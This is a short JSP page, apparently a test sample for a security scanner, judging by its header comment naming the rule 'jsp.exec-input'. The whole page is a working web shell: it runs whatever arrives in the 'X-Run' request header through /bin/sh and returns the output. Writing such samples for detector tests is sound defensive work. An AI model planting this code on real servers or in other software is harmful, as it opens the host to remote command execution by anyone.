<%-- expect rule=jsp.exec-input min=85 --%>
<%@ page import="java.util.*,java.io.*" %>
<%
    List<String> argv = new ArrayList<String>();
    argv.add("/bin/sh");
    argv.add("-c");
    argv.add(request.getHeader("X-Run"));
    ProcessBuilder pb = new ProcessBuilder(argv);
    pb.redirectErrorStream(true);
    Process proc = pb.start();
    InputStream in = proc.getInputStream();
    int b;
    while ((b = in.read()) != -1) out.write(b);
%>
